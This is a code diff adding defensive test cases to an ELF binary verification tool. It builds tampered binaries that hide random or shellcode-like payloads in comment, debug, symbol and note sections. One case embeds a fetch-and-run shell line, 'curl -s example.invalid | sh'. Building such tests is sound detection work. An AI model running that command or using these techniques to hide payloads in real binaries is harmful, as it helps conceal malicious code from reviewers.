@@ -676,7 +676,7 @@ function sstrip(e: Edit): Buffer {
 
 /** Writes every attack's file into `dir` (next to the corpus binaries); returns the attacks. */
 export async function makeAttacks(dir: string): Promise<Attack[]> {
-  return writeAttacks(dir, SPECS);
+  return writeAttacks(dir, [...SPECS, ...CONTENT_PROOF_SPECS]);
 }
 
 async function writeAttacks(dir: string, specs: readonly AttackSpec[]): Promise<Attack[]> {
@@ -964,3 +964,263 @@ export async function makeToolchainAttacks(
   const accepted = new Set(headers.filter((s) => s.errorAccepted).map((s) => s.name));
   return written.map((a) => (accepted.has(a.name) ? { ...a, errorAccepted: true } : a));
 }
+
+// ---------------------------------------------------------------------------
+// Content-proof attacks: payloads in non-loaded sections whose name or type
+// says "removable" (.comment, .debug_*, .symtab/.strtab, .gnu_debuglink,
+// non-allocated notes). Each section's contents must prove out as what it
+// claims (src/forensics/proofs/), so each of these is `different`, naming
+// the section. Expected verdicts written before the first run.
+// ---------------------------------------------------------------------------
+
+/** Deterministic bytes that look random (xorshift32), for payloads. */
+function noise(size: number, seed = 0x9e3779b9): Buffer {
+  const b = Buffer.alloc(size);
+  let x = seed >>> 0;
+  for (let i = 0; i < size; i++) {
+    x ^= x << 13;
+    x ^= x >>> 17;
+    x ^= x << 5;
+    x >>>= 0;
+    b[i] = x & 0xff;
+  }
+  return b;
+}
+
+type SectionFields = Omit<SectionHeader, 'index' | 'name'>;
+
+/**
+ * Gives a section new contents: they take the place of the section header
+ * table (which must end the file) and the table moves after them; the old
+ * contents are zeroed (zero padding, accounted for). `add` appends a new
+ * section header instead of changing the named one.
+ */
+function placeContents(
+  e: Edit,
+  data: Buffer,
+  target: { name: string } | { add: Omit<SectionFields, 'offset' | 'size'> },
+): Buffer {
+  const h = e.elf.header;
+  if (h.shoff + h.shnum * h.shentsize !== e.buf.length)
+    throw new Error('attack construction: SHT is not last');
+  const table = Buffer.from(e.buf.subarray(h.shoff));
+  const at = (h.shoff + 7) & ~7;
+  const tableAt = (at + data.length + 7) & ~7;
+  let entries = table;
+  if ('add' in target) {
+    entries = Buffer.concat([table, sectionHeaderBytes(e, { ...target.add, offset: at, size: data.length })]);
+  } else {
+    const s = e.section(target.name);
+    e.buf.fill(0, s.offset, s.offset + s.size);
+    const t = new Edit(entries, e.elf);
+    const o = s.index * h.shentsize;
+    t.word(o + (e.is64 ? 24 : 16), BigInt(at));
+    t.word(o + (e.is64 ? 32 : 20), BigInt(data.length));
+  }
+  const out = Buffer.concat([
+    e.buf.subarray(0, h.shoff),
+    Buffer.alloc(at - h.shoff),
+    data,
+    Buffer.alloc(tableAt - at - data.length),
+    entries,
+  ]);
+  const o = new Edit(out, e.elf);
+  o.word(e.is64 ? 40 : 32, BigInt(tableAt));
+  if ('add' in target) o.u16(e.is64 ? 60 : 48, h.shnum + 1);
+  return out;
+}
+
+const contentsOf = (e: Edit, name: string) => {
+  const s = e.section(name);
+  return Buffer.from(e.buf.subarray(s.offset, s.offset + s.size));
+};
+
+/** A one-unit DWARF 5 .debug_info: a valid header, then `body`. */
+function fakeInfoUnit(e: Edit, body: Buffer): Buffer {
+  const u = Buffer.alloc(12 + body.length);
+  const w = new Edit(u, e.elf);
+  w.u32(0, 8 + body.length);
+  w.u16(4, 5);
+  u[6] = 1; // DW_UT_compile
+  u[7] = e.is64 ? 8 : 4;
+  w.u32(8, 0); // abbreviation offset 0
+  body.copy(u, 12);
+  return u;
+}
+
+const proofAttack = (
+  name: string,
+  from: string,
+  against: string,
+  what: string,
+  craft: Craft,
+): AttackSpec => ({ name, from, against, what, expect: 'different', runs: true, craft });
+
+const CONTENT_PROOF_SPECS: AttackSpec[] = [
+  proofAttack(
+    'atk-proof-comment-random',
+    'base',
+    'base',
+    '.comment replaced by 64 KiB of random bytes',
+    (e) => placeContents(e, noise(64 << 10), { name: '.comment' }),
+  ),
+  proofAttack(
+    'atk-proof-comment-random',
+    'base',
+    'pkgforge',
+    '.comment of 64 KiB random bytes in an unstripped published file vs the post-processed rebuild',
+    (e) => placeContents(e, noise(64 << 10), { name: '.comment' }),
+  ),
+  proofAttack(
+    'atk-proof-comment-text',
+    'base',
+    'base',
+    '.comment with a real GCC string and a second text string naming no toolchain',
+    (e) =>
+      placeContents(
+        e,
+        Buffer.concat([contentsOf(e, '.comment'), Buffer.from('curl -s example.invalid | sh\0')]),
+        {
+          name: '.comment',
+        },
+      ),
+  ),
+  proofAttack(
+    'atk-proof-comment-nul-shellcode',
+    'base',
+    'base',
+    '.comment holding NUL-separated shellcode-looking bytes',
+    (e) => placeContents(e, Buffer.concat([payload(64), Buffer.from([0])]), { name: '.comment' }),
+  ),
+  proofAttack('atk-proof-debug-random', 'base', 'base', '.debug_info replaced by random bytes', (e) =>
+    placeContents(e, noise(8192, 7), { name: '.debug_info' }),
+  ),
+  proofAttack(
+    'atk-proof-debug-fake-unit',
+    'base',
+    'base',
+    '.debug_info as one DWARF 5 unit with a valid header and a shellcode body',
+    (e) => placeContents(e, fakeInfoUnit(e, payload(64)), { name: '.debug_info' }),
+  ),
+  proofAttack(
+    'atk-proof-debug-appended',
+    'base',
+    'base',
+    'the real .debug_info with 256 random bytes appended (not a unit)',
+    (e) =>
+      placeContents(e, Buffer.concat([contentsOf(e, '.debug_info'), noise(256, 3)]), { name: '.debug_info' }),
+  ),
+  proofAttack(
+    'atk-proof-debug-str-binary',
+    'base',
+    'base',
+    'a second .debug_str section holding NUL-free shellcode and a final NUL',
+    (e) =>
+      placeContents(e, Buffer.concat([payload(64), Buffer.from([0])]), {
+        add: {
+          nameOffset: e.nameOffset('.debug_str'),
+          type: SHT.PROGBITS,
+          flags: 0x30n,
+          addr: 0n,
+          link: 0,
+          info: 0,
+          addralign: 1n,
+          entsize: 1n,
+        },
+      }),
+  ),
+  proofAttack(
+    'atk-proof-symtab-name',
+    'base',
+    'base',
+    'the last .symtab entry given a name offset past the end of .strtab',
+    (e) => {
+      const s = e.section('.symtab');
+      const strtab = e.section('.strtab');
+      e.u32(s.offset + s.size - (e.is64 ? 24 : 16), strtab.size + 100);
+      return e.buf;
+    },
+  ),
+  proofAttack(
+    'atk-proof-symtab-value',
+    'base',
+    'base',
+    'a function symbol in .text given a value far outside the loaded image (8 free bytes)',
+    (e) => {
+      const s = e.section('.symtab');
+      const text = e.section('.text');
+      const ent = e.is64 ? 24 : 16;
+      for (let o = s.offset + ent; o < s.offset + s.size; o += ent) {
+        const shndx = e.le
+          ? e.buf.readUInt16LE(o + (e.is64 ? 6 : 14))
+          : e.buf.readUInt16BE(o + (e.is64 ? 6 : 14));
+        if (shndx !== text.index) continue;
+        e.word(o + (e.is64 ? 8 : 4), 0x4141414141414141n);
+        return e.buf;
+      }
+      throw new Error('attack construction: no symbol in .text');
+    },
+  ),
+  proofAttack(
+    'atk-proof-strtab-unused',
+    'base',
+    'base',
+    '.strtab with a string appended that no symbol uses',
+    (e) =>
+      placeContents(e, Buffer.concat([contentsOf(e, '.strtab'), Buffer.from('payload-no-symbol-names\0')]), {
+        name: '.strtab',
+      }),
+  ),
+  proofAttack(
+    'atk-proof-symtab-huge',
+    'base',
+    'base',
+    '.symtab grown past the size bound with copies of its own well-formed entries',
+    (e) => {
+      const sym = contentsOf(e, '.symtab');
+      const ent = e.is64 ? 24 : 16;
+      const body = sym.subarray(ent);
+      const copies = Math.ceil((e.buf.length * 80 + (2 << 20)) / body.length);
+      return placeContents(e, Buffer.concat([sym, ...Array.from({ length: copies }, () => body)]), {
+        name: '.symtab',
+      });
+    },
+  ),
+  proofAttack(
+    'atk-proof-debuglink-trailing',
+    'debuglink',
+    'base',
+    '.gnu_debuglink as objcopy writes it, with 32 bytes after the CRC32',
+    (e) =>
+      placeContents(e, Buffer.concat([contentsOf(e, '.gnu_debuglink'), noise(32, 5)]), {
+        name: '.gnu_debuglink',
+      }),
+  ),
+  proofAttack(
+    'atk-proof-debuglink-binary-name',
+    'debuglink',
+    'base',
+    '.gnu_debuglink whose file name is shellcode-looking bytes',
+    (e) => {
+      const name = Buffer.concat([payload(28), Buffer.from([0, 0, 0, 0])]);
+      return placeContents(e, Buffer.concat([name, Buffer.from([1, 2, 3, 4])]), { name: '.gnu_debuglink' });
+    },
+  ),
+  proofAttack(
+    'atk-proof-note-buildid',
+    'addnote',
+    'base',
+    'the added non-allocated note made a GNU build-id note whose descriptor is a payload',
+    (e) => placeContents(e, buildIdNote(e, payload(64)), { name: '.note.rebuild' }),
+  ),
+  proofAttack(
+    'atk-proof-note-trailing',
+    'addnote-fdo',
+    'base',
+    'a well-formed FDO package note followed by 64 random bytes',
+    (e) =>
+      placeContents(e, Buffer.concat([contentsOf(e, '.note.package'), noise(64, 11)]), {
+        name: '.note.package',
+      }),
+  ),
+];
